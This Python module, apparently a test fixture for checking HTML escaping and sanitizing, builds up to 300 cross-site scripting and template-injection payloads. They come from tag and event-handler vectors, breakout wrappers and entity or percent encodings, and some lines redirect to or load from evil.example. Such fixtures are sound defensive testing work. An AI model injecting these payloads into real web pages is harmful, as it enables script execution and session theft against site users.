"""Three hundred texts that would run, load or break something if any surface took them for more than text."""

HIT = "window.hacked=1"
COUNT = 300

# What runs, each way that a browser knows.
_RUNS = [
    f"<script>{HIT}</script>",
    f"<ScRiPt src=data:text/javascript,{HIT}></sCrIpT>",
    f"<img src=x onerror={HIT}>",
    f"<img/src=x/onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={HIT}>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<object data=javascript:{HIT}></object>",
    f"<embed src=data:text/html,<script>top.{HIT}</script>>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}><summary>x</summary></details>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<a href=javascript:{HIT} autofocus tabindex=1 onfocus={HIT}>x</a>",
    f"<form action=javascript:{HIT}><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none!important}</style>",
    f"<template><script>{HIT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"{{{{constructor.constructor('{HIT}')()}}}}",
    f"${{{HIT}}}",
    f"{{% raw %}}{{{{ {HIT} }}}}",
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"\u202e<script>{HIT}</script>\u202c",
]
# What it stands in: as it is, breaking out of where texts go, or encoded so that a second decoding would free it.
_AROUND = [
    "{}",
    '">{}',
    "'>{}",
    "</mark></p></article>{}",
    "</title></script></style></textarea>{}",
    "<!--{}-->",
    "<![CDATA[{}]]>",
    "\u2028{}",
]


def _entities(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _numbers(text: str) -> str:
    return "".join(f"&#{ord(char)};" if char in "<>\"'" else char for char in text)


def _percent(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E").replace('"', "%22")


def payloads() -> list[str]:
    """Return them all, none twice."""
    made = [around.format(runs) for around in _AROUND for runs in _RUNS]
    made += [encode(runs) for encode in (_entities, _numbers, _percent) for runs in _RUNS]
    return list(dict.fromkeys(made))[:COUNT]
